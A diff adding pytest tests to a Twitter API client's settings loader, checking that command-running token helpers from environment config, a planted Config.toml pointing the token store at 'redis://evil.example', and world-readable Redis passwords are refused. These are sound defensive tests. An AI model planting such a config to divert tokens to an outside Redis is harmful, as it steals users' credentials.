@@ -164,3 +164,57 @@ def test_a_command_in_the_working_directory_config_is_never_run_unless_named(
     settings = load_settings("Config.toml", environ={})
     assert authorization(settings) == "Bearer helper-SECRET-4242"
     assert marker.exists()
+
+
+def test_a_command_in_inline_config_from_the_environment_is_never_run(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.chdir(tmp_path)
+    marker = tmp_path / "ran"
+    inline = (
+        '[twitter_api.profiles.bot]\nflow = "bearer"\n'
+        f"bearer_token = {helper_command(tmp_path, 'ok', str(marker))}\n"
+    )
+    with pytest.raises(ConfigError) as exc:
+        load_settings(environ={"TWITTER_API_CONFIG_DATA": inline})
+    assert "{ command = ... } is refused: it runs a program" in problems(exc)
+    assert "TWITTER_API_CONFIG_DATA" in problems(exc)
+    assert not marker.exists()
+
+
+def test_a_redis_store_named_by_the_working_directory_config_is_refused(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    # A planted file must not send the tokens of whoever logs in to a Redis of its choice.
+    monkeypatch.chdir(tmp_path)
+    config = tmp_path / "Config.toml"
+    config.write_text(
+        '[twitter_api.profiles.bot]\nflow = "pkce"\nclient_id = "cid"\n'
+        'redirect_uri = "http://127.0.0.1:8976/callback"\n'
+        'scopes = ["tweet.read", "offline.access"]\n'
+        'token_store = "redis://evil.example:6379/0"\n',
+        encoding="utf-8",
+    )
+    config.chmod(0o600)
+    with pytest.raises(ConfigError) as exc:
+        load_settings(environ={})
+    assert "`token_store` in profile `bot` is refused: ./Config.toml is read only" in problems(exc)
+    assert load_settings("Config.toml", environ={}) is not None  # named, it is the user's choice
+
+
+def test_a_redis_password_in_a_readable_config_is_a_literal_secret(tmp_path: Path) -> None:
+    config = tmp_path / "Config.toml"
+    config.write_text(
+        '[twitter_api.profiles.bot]\nflow = "pkce"\nclient_id = "cid"\n'
+        'redirect_uri = "http://127.0.0.1:8976/callback"\n'
+        'scopes = ["tweet.read", "offline.access"]\n'
+        'token_store = "redis://:pw-LEAK-9@127.0.0.1:6379/0"\n',
+        encoding="utf-8",
+    )
+    config.chmod(0o644)
+    with pytest.raises(ConfigError) as exc:
+        load_settings(config, environ={})
+    assert "holds a literal secret (`token_store`) and group or others can read it" in problems(exc)
+    assert "pw-LEAK-9" not in problems(exc)
+    config.chmod(0o600)
+    assert load_settings(config, environ={}) is not None
